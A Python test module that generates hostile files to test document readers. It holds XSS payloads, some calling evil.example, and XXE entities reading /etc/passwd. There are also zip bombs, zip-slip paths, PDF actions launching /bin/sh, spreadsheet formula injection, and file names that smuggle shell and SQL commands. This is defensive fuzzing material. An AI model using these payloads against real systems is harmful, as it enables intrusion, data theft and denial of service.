"""Hostile files of every kind, made by seed: `corpus(seed, scale)` gives names and bytes, more than 300 of them.

`scale` is the size of those that are meant to exhaust: 1 for a million characters, lines or tags.
"""

from __future__ import annotations

import io
import json
import random
import zipfile
from collections.abc import Iterator

from tests.documents.readers.making import LOCKED, docx, epub, paragraph, pdf, zipped

TEXT = (
    "关于修渠的座谈会\n（1958年3月2日）\n\n主持人：今天请大家来谈修渠。\n\n林泽川：水渠要修到每一个村。\n\n"
    "他指出：“水渠要修到每一个村，一条也不能少。”大家都同意。\n"
)
LIVE = tuple(
    r"""<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
</title><script>alert(1)</script>
"><script>alert(1)</script>
' onmouseover='alert(1)
<iframe src=javascript:alert(1)></iframe>
<a href=javascript:alert(1)>水</a>
<base href=//evil.example/>
<meta http-equiv=refresh content=0;url=//evil.example>
<style>*{display:none}</style>
<form action=//evil.example><input name=q></form>
<!--<script>alert(1)//-->
<object data=//evil.example/x.swf></object>
&lt;script&gt;alert(1)&lt;/script&gt;
{{ 7|add:7 }}{% csrf_token %}
<math><mtext><script>alert(1)</script>
]]><script>alert(1)</script>
<p style=position:fixed>水</p>
\u003cscript\u003ealert(1)""".splitlines()
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    '=HYPERLINK("//evil.example")',
)
ODD = (
    "\0",
    "\u202e",
    "\u2066\u202d",
    "\ufeff",
    "\u200b" * 50,
    "\uffff",
    "\ue000",
    "e" + "\u0301" * 500,
    "\x1b[2J",
    "\x85\u2028",
    "𠮷",
    "\x7f",
)
File = tuple[str, bytes]


def good() -> dict[str, bytes]:
    """A sound file of each kind."""
    head = "<!DOCTYPE html><html><head><meta charset=utf-8><title>会</title></head>"
    page = f"{head}<body><h1>会</h1><p>{TEXT}</p></body></html>"
    table = f'标题,日期,正文\n甲,1958-03-02,"{TEXT}"\n'
    record = {"title": "会", "text": TEXT}
    return {
        ".txt": TEXT.encode(),
        ".md": f"# 会\n\n{TEXT}".encode(),
        ".html": page.encode(),
        ".csv": table.encode(),
        ".json": json.dumps([record], ensure_ascii=False).encode(),
        ".jsonl": json.dumps(record).encode() * 2,
        ".docx": docx("".join(paragraph(line) for line in TEXT.splitlines())),
        ".epub": epub("书", {"a": f"<p>{TEXT}</p>"}),
        ".pdf": pdf([TEXT.replace("\n\n", "\n")]),
        ".zip": zipped({"内/a.txt": TEXT.encode()}),
    }


def corpus(seed: int, scale: float) -> Iterator[File]:
    """All files, their names unique."""
    chance = random.Random(seed)
    kinds = (
        ("encodings", encodings(chance)), ("odd", odd_characters()), ("large", large(scale)), ("live", live_markup()),
        ("deep", deep(scale)), ("entities", entities()), ("packed", packed(scale)), ("cut", cut(chance)),
        ("damaged", damaged(chance)), ("pdf", scripted_pdfs()), ("cells", cells()), ("names", names()),
    )  # fmt: skip
    for kind, files in kinds:
        for number, (name, data) in enumerate(files):
            yield f"{kind}/{number:02}{name}", data


def encodings(chance: random.Random) -> Iterator[File]:
    """Wrong, mixed and lying ones."""
    for name in (
        "gb18030",
        "big5",
        "utf-16",
        "utf-16-le",
        "utf-16-be",
        "utf-32",
        "euc_kr",
        "shift_jis",
        "cp1252",
        "utf-7",
        "cp037",
    ):
        data = TEXT.encode(name, errors="ignore")
        yield f"{name}.txt", data
        yield f"{name}.html", b"<meta charset=utf-8><p>" + data
        yield f"{name}-lying.html", f"<meta charset={name}><p>{TEXT}".encode()
    for _ in range(8):
        half = chance.randrange(len(TEXT))
        first, second = chance.sample(["utf-8", "gb18030", "big5", "utf-16-le"], 2)
        yield "mixed.txt", TEXT[:half].encode(first, "ignore") + TEXT[half:].encode(second, "ignore")
    for mark in (b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf", b"\xff\xfe\0\0"):
        yield "marked.txt", mark + TEXT.encode("gb18030")
        yield "marked.csv", mark + good()[".csv"]
    yield "random.txt", chance.randbytes(5_000)
    yield "nothing.txt", b""


def odd_characters() -> Iterator[File]:
    """NUL, direction marks, controls, lone surrogates."""
    for odd in ODD:
        yield (
            ".txt",
            TEXT.replace("水渠", f"水{odd}渠").replace("林泽川", f"林{odd}泽川").encode("utf-8", "surrogatepass"),
        )
        yield ".html", f"<title>{odd}会</title><p>{TEXT}{odd}".encode()
        yield ".csv", f'标题,正文\n{odd}甲,"{TEXT}{odd}"\n'.encode()
    for surrogate in ("\\ud800", "\\udc00\\ud800", "\\u0000"):
        yield ".json", f'[{{"title": "{surrogate}", "text": "水渠{surrogate}要修"}}]'.encode()
    yield "surrogate.txt", b"\xed\xa0\x80" * 50 + TEXT.encode()


def large(scale: float) -> Iterator[File]:
    """Much of something, or of nothing."""
    many = int(1_000_000 * scale)
    yield "line.txt", "水".encode() * many
    yield "lines.txt", "水\n".encode() * many
    yield "empty-lines.txt", b"\n" * many + TEXT.encode()
    yield "spaces.txt", TEXT.encode() + b" " * many
    yield "quotes.txt", ("“" * many).encode()
    yield "brackets.txt", ("（《" * (many // 2)).encode()
    yield "marks.md", b"*_`[" * (many // 4)
    yield "headings.md", "# 水\n".encode() * (many // 10)
    yield "dates.txt", "一九五八年三月二日 ".encode() * (many // 20)
    yield "names.txt", "林泽川：好。\n".encode() * (many // 20)
    yield "said.txt", "他说：“好。”".encode() * (many // 20)
    clan = [f"王{chr(0x4E10 + n % 500)}{chr(0x5B50 + n // 500)}" for n in range(many // 20)]  # all of one surname
    yield "roll.txt", f"座谈会记录\n时间：1958年3月2日\n出席：{'、'.join(clan)}\n\n{TEXT}".encode()
    yield "clan.txt", "\n".join(f"{name}同志说：“渠要修。”" for name in clan).encode()
    yield "entities.html", b"&amp;" * (many // 2)
    yield "attribute.html", b'<a href="' + b"y" * many
    yield "columns.csv", b"a," * many
    yield "quoted.csv", b'title,text\n"a","' + b'""\n' * many + b'"'
    yield "objects.json", b"[" + b"{}," * (many // 3) + b'{"text": "x"}]'
    yield "number.json", b'[{"text": ' + b"1" * many + b"}]"
    yield "lines.jsonl", b"{}\n" * many
    yield "one.docx", docx(paragraph("水" * many))
    yield "many.docx", docx(paragraph("水") * (many // 20))


def live_markup() -> Iterator[File]:
    """Mark-up where titles, names, speakers, quotations and texts are expected."""
    for live in LIVE:
        escaped = live.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        yield ".txt", f"{live}\n\n{TEXT}\n\n林{live}泽川：{live}水渠。\n\n林泽川指出：“{live}水渠要修。”\n".encode()
        head = f"<title>{live}</title><meta name=author content='{live}'>"
        yield ".html", f"{head}<h1>{escaped}</h1><p>{live}{escaped}{TEXT}".encode()
        yield ".md", f"---\ntitle: {live}\nauthor: {live}\n---\n# {live}\n\n{TEXT}[水]({live})".encode()
        yield ".docx", docx(paragraph(escaped) + paragraph(f"林泽川：{escaped}") + paragraph(TEXT))
        yield (
            ".json",
            json.dumps(
                [{"title": live, "author": live, "source": live, "url": "javascript:alert(1)", "text": TEXT + live}]
            ).encode(),
        )


def deep(scale: float) -> Iterator[File]:
    """Things inside things."""
    many = int(100_000 * scale)
    for tag in ("b", "div", "table><tr><td", "ul><li", "svg", "template", "select", "blockquote"):
        yield "tags.html", f"<{tag}>".encode() * many + TEXT.encode()
    yield "brackets.json", b"[" * many
    yield "objects.json", b'{"a":' * many + b"1" + b"}" * many
    yield "quotes.md", b"> " * many + TEXT.encode()
    yield "elements.docx", docx("<w:p>" * many)
    yield (
        "runs.docx",
        docx("<w:p>" + "<w:ins>" * (many // 10) + "<w:r><w:t>水</w:t></w:r>" + "</w:ins>" * (many // 10) + "</w:p>"),
    )


def entities() -> Iterator[File]:
    """Entities that grow, fetch or read."""
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "ha"}">' for i in range(10))
    for inside in (
        laughs,
        '<!ENTITY l9 SYSTEM "file:///etc/passwd">',
        '<!ENTITY % x SYSTEM "http://127.0.0.1:9/">%x;',
        f'<!ENTITY l9 "{"a" * 9_999}">',
    ):
        prolog = f"<!DOCTYPE x [{inside}]>"
        yield ".docx", zipped({"word/document.xml": f"{prolog}<x>&l9;</x>".encode()})
        yield ".epub", epub("书", {"a": f"{prolog}<p>会议&l9;</p>"})
        yield ".html", f"{prolog}<p>会议&l9;{TEXT}</p>".encode()
        yield ".xml", f"<?xml version='1.0'?>{prolog}<x>&l9;</x>".encode()


def packed(scale: float) -> Iterator[File]:
    """Archives that grow, that write elsewhere, that lie."""
    blank = b" " * int(60_000_000 * max(scale, 0.3))
    yield "bomb.zip", zipped({"a.txt": blank})
    yield "bomb.docx", zipped({"word/document.xml": blank})
    yield "bomb.epub", zipped({"META-INF/container.xml": blank})
    nest = zipped({"a.txt": TEXT.encode()})
    for _ in range(12):
        nest = zipped({"in.zip": nest, "b.txt": TEXT.encode()})
    yield "nest.zip", nest
    yield "many.zip", zipped({f"{n}.txt": b"x" for n in range(int(20_000 * scale))})
    for path in (
        "../../evil.txt",
        "/etc/evil.txt",
        "C:\\evil.txt",
        "a/../../evil.txt",
        "..\\..\\evil.txt",
        "<script>.txt",
        "con.txt",
    ):
        yield "slip.zip", zipped({path: TEXT.encode()})
    for flag, to in ((8, 1), (6, 9), (10, 99)):
        data = bytearray(good()[".zip"])
        at = data.find(b"PK\x01\x02")
        data[at + flag] ^= to
        yield "lying.zip", bytes(data)
    link = io.BytesIO()
    with zipfile.ZipFile(link, "w") as archive:
        info = zipfile.ZipInfo("link.txt")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
        archive.writestr("twice.txt", TEXT)
        archive.writestr("twice.TXT", TEXT)
    yield "link.zip", link.getvalue()
    for end in (".docx", ".epub", ".pdf", ".html", ".json"):
        yield f"other{end}", good()[".zip"]


def cut(chance: random.Random) -> Iterator[File]:
    """Every kind, cut off anywhere."""
    for end, data in good().items():
        for at in sorted(chance.sample(range(len(data)), 6)):
            yield end, data[:at]


def damaged(chance: random.Random) -> Iterator[File]:
    """Every kind, with bytes changed anywhere."""
    for end, data in good().items():
        for _ in range(5):
            changed = bytearray(data)
            for _ in range(chance.randrange(1, 30)):
                changed[chance.randrange(len(changed))] = chance.randrange(256)
            yield end, bytes(changed)


def scripted_pdfs() -> Iterator[File]:
    """PDFs that would do something when opened."""
    for action in (
        "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "/OpenAction << /S /Launch /F (/bin/sh) >>",
        "/OpenAction << /S /URI /URI (http://127.0.0.1:9/) >>",
        "/AA << /O << /S /SubmitForm /F (http://127.0.0.1:9/) >> >>",
        "/Names << /EmbeddedFiles << /Names [(a) << /EF << >> >>] >> >>",
        "/Pages 1 0 R",
    ):
        yield "action.pdf", pdf([TEXT.replace("\n\n", "\n") + LIVE[0]], catalog=action)
    yield "locked.pdf", pdf(["水渠"], trailer=LOCKED)
    yield "letters.pdf", pdf([LIVE[0]], mapped=False)
    yield "header.pdf", b"%PDF-1.7\n" + b"\xff" * 5_000


def cells() -> Iterator[File]:
    """Tables whose cells would be run by a spreadsheet."""
    for formula in FORMULAS:
        quoted = '"' + formula.replace('"', '""') + '"'
        yield ".csv", f'标题,作者,日期,来源,正文\n{quoted},{quoted},{quoted},{quoted},"{formula}\n{TEXT}"\n'.encode()
        record = {"title": formula, "author": formula, "source": formula, "text": TEXT + formula}
        yield ".jsonl", json.dumps(record).encode() + b"\n"


def names() -> Iterator[File]:
    """Names of files that are something else."""
    for name in (
        "<img src=x onerror=alert(1)>", "<script>alert(1)<", "\" onload=\"alert(1)", "-rf", "--help", "$(id)", "`id`",
        "a;b|c&d", "%2e%2e%2f", "\u202etxt.exe", "水" * 75, "e\u0301", "😀", " ",
        "'; DROP TABLE documents_document; --", "{{7}}", "a\tb", "..a",
    ):  # fmt: skip
        yield f"{name}.txt", (TEXT + name).encode()
